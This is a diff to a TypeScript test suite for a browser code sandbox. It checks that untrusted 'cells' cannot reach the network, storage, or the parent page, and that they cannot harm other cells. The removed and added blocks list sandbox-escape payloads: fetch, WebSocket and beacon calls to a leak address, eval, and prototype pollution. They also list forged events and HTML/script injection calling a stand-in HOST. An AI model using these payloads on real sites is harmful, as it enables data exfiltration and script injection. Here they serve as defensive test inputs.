@@ -1,56 +1,34 @@
 /**
- * What a cell must not be able to do. Each attempt runs in a cell; a server sees whether anything reached the network, the
- * page whether anything reached it.
+ * What a cell must not be able to do. Each attempt runs in a cell; an attacker's server sees whether anything reached the
+ * network, the page whether anything reached it.
  */
 import { afterAll, beforeAll, describe, expect, test } from 'vitest'
+import { startAttacker, type Attacker } from './attacker.ts'
+import { attempts } from './attempts.ts'
 import { browsers, runCellIn, type TestBrowser, type TestPage } from './browsers.ts'
 import { serveCellPage, type CellPage, type PageCell } from './cell-page.ts'
 
-/** By name, code that prints `reached` where it succeeds; `LEAK` stands for an address on the watching server. */
-const attempts: Record<string, string> = {
-  fetch: `await (globalThis as any).fetch('LEAK')`,
-  XMLHttpRequest: `await new Promise((ok, no) => { const r = new XMLHttpRequest(); r.onload = ok; r.onerror = no; r.open('GET', 'LEAK'); r.send() })`,
-  WebSocket: `await new Promise((ok, no) => { const s = new WebSocket('LEAK'.replace('http', 'ws')); s.onopen = ok; s.onerror = no })`,
-  WebTransport: `await new (globalThis as any).WebTransport('LEAK'.replace('http', 'https')).ready`,
-  EventSource: `await new Promise((ok, no) => { const s = new EventSource('LEAK'); s.onopen = ok; s.onerror = no })`,
-  beacon: `if (!navigator.sendBeacon('LEAK')) throw 0`,
-  importScripts: `(globalThis as any).importScripts('LEAK')`,
-  'a nested worker': `new Worker(URL.createObjectURL(new Blob(['fetch("LEAK")'])))`,
-  'a shared worker': `new SharedWorker('LEAK')`,
-  'a font': `await new FontFace('leak', 'url(LEAK)').load()`,
-  eval: `(0, eval)('1')`,
-  'a function from text': `new Function('return 1')()`,
-  'a function from text, by way of a prototype': `(async () => {}).constructor('return import("LEAK")')()`,
-  'a timer from text': `await new Promise((ok, no) => { (globalThis as any).done = ok; setTimeout('done()' as any, 0); setTimeout(no, 200) })`,
-  'a module from a blob': `URL.createObjectURL(new Blob(['export default 1']))`,
-  indexedDB: `await new Promise((ok, no) => { const r = indexedDB.open('x'); r.onsuccess = ok; r.onerror = no })`,
-  caches: `await caches.open('x')`,
-  'the origin private file system': `await navigator.storage.getDirectory()`,
-  'local storage': `(globalThis as any).localStorage.setItem('x', '1')`,
-  cookies: `await (globalThis as any).cookieStore.set('x', '1')`,
-  'a broadcast to other cells': `new BroadcastChannel('x').postMessage('x')`,
-  locks: `await navigator.locks.request('x', () => 1)`,
-  'the parent': `(globalThis as any).parent.document`,
-  'the opener': `(globalThis as any).opener.document`,
-  'the document': `(globalThis as any).document.title`,
-  'the global scope of the frame': `(globalThis as any).postMessage({ type: 'ended' }); (globalThis as any).postMessage('[]')`,
-}
-
 const honest = { id: 'honest', code: `console.log('still', 'here')` }
+
+/** What a cell can do to its own worker, and what must be seen of it elsewhere: nothing. */
+const vandals: Record<string, string> = {
+  'pollutes the prototypes': `(Object.prototype as any).polluted = 1; (Array.prototype as any).polluted = 1`,
+  'takes over what events are packed with': `JSON.stringify = () => '[{"type":"takeover"}]'; (Object.prototype as any).toJSON = () => 1`,
+  'takes over what events are sent with': `MessagePort.prototype.postMessage = () => undefined; Array.prototype.push = () => 0`,
+  'forges an event': `(Array.prototype as any).toJSON = () => [{ type: 'display', kind: 'html', text: '', data: '<img src=http://HOST/>', html: 1 }]`,
+  'prints a page': `console.log('<img src="http://HOST/"><script>document.title = "taken"</script>')`,
+  'names a variable after a field': `const __proto__ = 1, constructor = 2, html = '<img src="http://HOST/">'`,
+}
 
 const idOf = (name: string) => name.toLowerCase().replaceAll(/[^a-z]+/g, '-')
 
-function attemptCell(name: string): PageCell {
-  const address = new URL(`/leak/${encodeURIComponent(name)}`, cells.urlOf([honest])).href
-  return { id: idOf(name), code: `${attempts[name]!.replaceAll('LEAK', address)}\nconsole.log('reached')`, limit: 3 }
-}
-
 let cells: CellPage
+let attacker: Attacker
 
 beforeAll(async () => {
-  cells = await serveCellPage()
+  ;[cells, attacker] = await Promise.all([serveCellPage(), startAttacker()])
 })
-afterAll(() => cells.close())
+afterAll(() => Promise.all([cells.close(), attacker.close()]))
 
 describe.each(browsers)('in $name', ({ installed, launch }) => {
   const it = test.skipIf(!installed)
@@ -61,20 +39,39 @@ describe.each(browsers)('in $name', ({ installed, launch }) => {
     if (!installed) return
     browser = await launch()
     page = await browser.newPage()
-    await page.goto(cells.urlOf([...Object.keys(attempts).map(attemptCell), honest]))
+    const cellOf = ([name, code]: [string, string], end: string): PageCell => ({
+      id: idOf(name),
+      code: `${code.replaceAll('HOST', attacker.host)}\n${end}`,
+      limit: 3,
+    })
+    const all = [
+      ...Object.entries(attempts).map((attempt) => cellOf(attempt, `console.log('reached')`)),
+      ...Object.entries(vandals).map((vandal) => cellOf(vandal, '')),
+    ]
+    await page.goto(cells.urlOf([...all, honest]))
   })
   afterAll(async () => {
     if (installed) await browser.close()
   })
 
   it.each(Object.keys(attempts))('%s is out of reach', async (name) => {
-    const before = cells.leaks.length
     expect(await runCellIn(page, idOf(name))).toMatchObject({ state: 'failed', output: '' })
-    expect(cells.leaks.slice(before)).toEqual([])
+    expect(attacker.leaks).toEqual([])
   })
 
-  it('and after all of that, other cells of the page still run', async () => {
+  it.each(Object.keys(vandals))('a cell that %s harms itself alone', async (name) => {
+    await runCellIn(page, idOf(name))
     expect((await runCellIn(page, 'honest')).output).toBe('still here')
+    const harm = await page.evaluate(() => [
+      'polluted' in {} || 'polluted' in [],
+      document.title,
+      document.querySelectorAll('img, live-cell script').length,
+    ])
+    expect(harm).toEqual([false, 'Cells', 0])
+    expect(attacker.leaks).toEqual([])
+  })
+
+  it('and after all of that the page’s own server was asked for nothing but the page', () => {
     expect(cells.leaks).toEqual([])
   })
 })
